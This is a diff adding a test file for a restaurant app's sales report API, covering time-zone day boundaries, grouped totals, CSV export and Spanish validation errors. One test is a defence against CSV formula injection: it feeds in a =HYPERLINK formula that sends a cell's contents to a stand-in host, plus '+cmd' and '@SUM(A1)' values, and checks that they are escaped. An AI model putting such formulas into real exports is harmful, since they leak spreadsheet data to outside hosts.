@@ -1,0 +1,146 @@
+import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
+import type { SalesReport } from '../../shared/reports'
+import type { CoverageZone, Order, Product } from '../../shared/schemas'
+import { createTestApp } from '../testing.server'
+
+// Guatemala is UTC-6: the restaurant's day differs from the UTC day between 18:00 and 24:00.
+let clock = 0
+const at = (gt: string) => {
+  clock = Date.parse(`${gt}:00-06:00`)
+}
+type T = Awaited<ReturnType<typeof createTestApp>>
+let t: T
+let cookie: string
+let horchata: Product
+let plate: Product
+let zone: CoverageZone
+let peers = 0
+
+const checkout = async (json: unknown) => {
+  const res = await t.request('/api/checkout', { method: 'POST', peer: `10.3.0.${++peers}`, json })
+  expect(res.status).toBe(201)
+  return (await res.json()) as Order
+}
+const report = async (query: string) => {
+  const res = await t.request(`/api/reports/sales?${query}`, { headers: { cookie } })
+  expect(res.status).toBe(200)
+  return (await res.json()) as SalesReport
+}
+
+beforeAll(async () => {
+  at('2026-11-20T08:00') // before signing in: the session's week starts on this clock
+  t = await createTestApp({ now: () => clock })
+  cookie = await t.signIn()
+  expect((await t.request('/api/admin/initialize-database', { method: 'POST', headers: { cookie } })).status).toBe(201)
+  const products = (await (await t.request('/api/products')).json()) as Product[]
+  horchata = products.find((p) => p.name === 'Horchata')!
+  plate = products.find((p) => p.category === 'chilaquiles')!
+  zone = (await (await t.request('/api/coverage-zones', { method: 'POST', headers: { cookie }, json: { name: 'Zona 10', deliveryCost: 15 } })).json()) as CoverageZone
+
+  // Friday 20, 23:30 in Guatemala (Saturday 05:30 UTC): a pickup paid in cash.
+  at('2026-11-20T23:30')
+  await checkout({ items: [{ productId: horchata.id, size: 'mediano', quantity: 2 }], fulfilment: 'pickup', payment: 'efectivo' })
+  // Saturday 21, 00:30: a delivery paid by card.
+  at('2026-11-21T00:30')
+  await checkout({ items: [{ productId: plate.id, size: 'mediano', quantity: 1 }], fulfilment: 'delivery', zoneId: zone.id, address: 'Calle 1', payment: 'tarjeta' })
+  // Saturday 12:00: a point-of-sale order.
+  at('2026-11-21T12:00')
+  expect((await t.request('/api/orders', { method: 'POST', headers: { cookie }, json: { customerName: 'Mesa 2', items: [{ name: 'Café de olla', quantity: 2, price: 25 }], total: 50 } })).status).toBe(201)
+  // Saturday 13:00: an order that is cancelled.
+  at('2026-11-21T13:00')
+  const cancelled = await checkout({ items: [{ productId: horchata.id, size: 'mediano', quantity: 1 }], fulfilment: 'pickup', payment: 'efectivo' })
+  expect((await t.request(`/api/orders/${cancelled.id}/status`, { method: 'PATCH', headers: { cookie }, json: { status: 'cancelled' } })).status).toBe(200)
+  // Sunday 22: outside the range asked below.
+  at('2026-11-22T09:00')
+  await checkout({ items: [{ productId: horchata.id, size: 'mediano', quantity: 5 }], fulfilment: 'pickup' })
+})
+afterAll(() => t.cleanup())
+
+describe('GET /api/reports/sales', () => {
+  test('totals: orders not cancelled, revenue with delivery fees, fees apart, average ticket, cancelled apart', async () => {
+    const { totals } = await report('from=2026-11-20&to=2026-11-21')
+    const revenue = 2 * horchata.price + plate.price + 15 + 50
+    expect(totals).toEqual({ orders: 3, revenue, deliveryFees: 15, averageTicket: Math.round(revenue / 3), cancelled: 1 })
+  })
+
+  test('per day, in restaurant days: 23:30 counts on the 20th, 00:30 on the 21st; days without sales are zero', async () => {
+    const { rows } = await report('from=2026-11-19&to=2026-11-21&groupBy=day')
+    expect(rows).toEqual([
+      { key: '2026-11-19', label: '2026-11-19', orders: 0, quantity: 0, revenue: 0 },
+      { key: '2026-11-20', label: '2026-11-20', orders: 1, quantity: 2, revenue: 2 * horchata.price },
+      { key: '2026-11-21', label: '2026-11-21', orders: 2, quantity: 3, revenue: plate.price + 15 + 50 },
+    ])
+  })
+
+  test('per product (lines of orders not cancelled), per zone, per payment', async () => {
+    const byProduct = await report('from=2026-11-20&to=2026-11-21&groupBy=product')
+    expect(byProduct.rows).toEqual(
+      [
+        { key: String(horchata.id), label: 'Horchata', orders: 1, quantity: 2, revenue: 2 * horchata.price },
+        { key: String(plate.id), label: plate.name, orders: 1, quantity: 1, revenue: plate.price },
+        { key: 'pos:Café de olla', label: 'Café de olla', orders: 1, quantity: 2, revenue: 50 },
+      ].sort((a, b) => b.revenue - a.revenue || a.label.localeCompare(b.label)),
+    )
+    const byZone = await report('from=2026-11-20&to=2026-11-21&groupBy=zone')
+    expect(byZone.rows.map((r) => [r.label, r.orders, r.revenue]).sort()).toEqual(
+      [
+        ['Recoger en el local', 1, 2 * horchata.price],
+        ['Zona 10', 1, plate.price + 15],
+        ['Punto de venta', 1, 50],
+      ].sort(),
+    )
+    const byPayment = await report('from=2026-11-20&to=2026-11-21&groupBy=payment')
+    expect(byPayment.rows.map((r) => [r.key, r.label, r.revenue]).sort()).toEqual(
+      [
+        ['efectivo', 'Efectivo', 2 * horchata.price],
+        ['tarjeta', 'Tarjeta', plate.price + 15],
+        ['sin-dato', 'Sin dato (punto de venta)', 50],
+      ].sort(),
+    )
+  })
+
+  test('format=csv: the same rows with a header, parsed back', async () => {
+    const res = await t.request('/api/reports/sales?from=2026-11-20&to=2026-11-21&groupBy=payment&format=csv', { headers: { cookie } })
+    expect(res.status).toBe(200)
+    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8')
+    expect(res.headers.get('content-disposition')).toBe('attachment; filename="ventas-payment-2026-11-20-2026-11-21.csv"')
+    const bytes = new Uint8Array(await res.arrayBuffer())
+    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]) // the BOM: spreadsheets read the accents as UTF-8
+    const text = new TextDecoder().decode(bytes)
+    const [header, ...lines] = text.trimEnd().split('\r\n')
+    expect(header).toBe('clave,nombre,pedidos,cantidad,ventas')
+    const json = await report('from=2026-11-20&to=2026-11-21&groupBy=payment')
+    expect(lines.map((l) => l.split(','))).toEqual(json.rows.map((r) => [r.key, r.label, String(r.orders), String(r.quantity), String(r.revenue)]))
+  })
+
+  test('a name that looks like a formula stays text in the CSV', async () => {
+    at('2026-11-23T10:00')
+    const evil = '=HYPERLINK("http://x.example/?"&A1,"clic")'
+    expect((await t.request('/api/orders', { method: 'POST', headers: { cookie }, json: { customerName: 'x', items: [{ name: evil, quantity: 1, price: 1 }], total: 1 } })).status).toBe(201)
+    for (const name of ['+cmd', '-2+3', '@SUM(A1)']) {
+      await t.request('/api/orders', { method: 'POST', headers: { cookie }, json: { customerName: 'x', items: [{ name, quantity: 1, price: 1 }], total: 1 } })
+    }
+    const text = await (await t.request('/api/reports/sales?from=2026-11-23&to=2026-11-23&groupBy=product&format=csv', { headers: { cookie } })).text()
+    expect(text).toContain(`"'=HYPERLINK(""http://x.example/?""&A1,""clic"")"`)
+    expect(text).toContain(",'+cmd,")
+    expect(text).toContain(",'-2+3,")
+    expect(text).toContain(",'@SUM(A1),")
+    expect(text).not.toMatch(/(^|,)[=+\-@]/m)
+  })
+
+  test('bad dates, ranges and groupBy: 400 in Spanish; signed out: 401', async () => {
+    for (const [query, path, message] of [
+      ['from=2026-02-30&to=2026-03-01', 'from', 'Fecha inválida: usa AAAA-MM-DD'],
+      ['from=2026-11-21&to=2026-11-20', 'to', 'La fecha final debe ser igual o posterior a la inicial'],
+      ['from=2000-01-01&to=2026-11-20', 'to', 'El rango máximo es de 3660 días'],
+      ['from=2026-11-20&to=2026-11-21&groupBy=week', 'groupBy', 'Agrupa por day, product, zone o payment'],
+      ['to=2026-11-21', 'from', 'Fecha inválida'],
+    ] as const) {
+      const res = await t.request(`/api/reports/sales?${query}`, { headers: { cookie } })
+      expect({ query, status: res.status }).toEqual({ query, status: 400 })
+      const body = (await res.json()) as { issues: { path: string; message: string }[] }
+      expect(body.issues[0]).toEqual({ path, message })
+    }
+    expect((await t.request('/api/reports/sales?from=2026-11-20&to=2026-11-21')).status).toBe(401)
+  })
+})
